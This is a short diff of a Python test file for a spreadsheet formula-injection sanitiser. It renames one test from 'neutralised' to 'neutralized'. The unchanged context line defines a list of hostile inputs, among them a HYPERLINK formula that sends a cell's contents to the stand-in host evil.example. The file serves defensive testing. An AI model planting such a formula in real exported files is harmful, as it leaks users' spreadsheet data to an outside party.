@@ -19,7 +19,7 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "
 
 
 @pytest.mark.parametrize("text", HOSTILE)
-def test_formula_starts_are_neutralised(text):
+def test_formula_starts_are_neutralized(text):
     out = formula_safe(text)
     assert "\r" not in out
     if text.lstrip(" ")[:1] in "=+-@\t\uff1d":
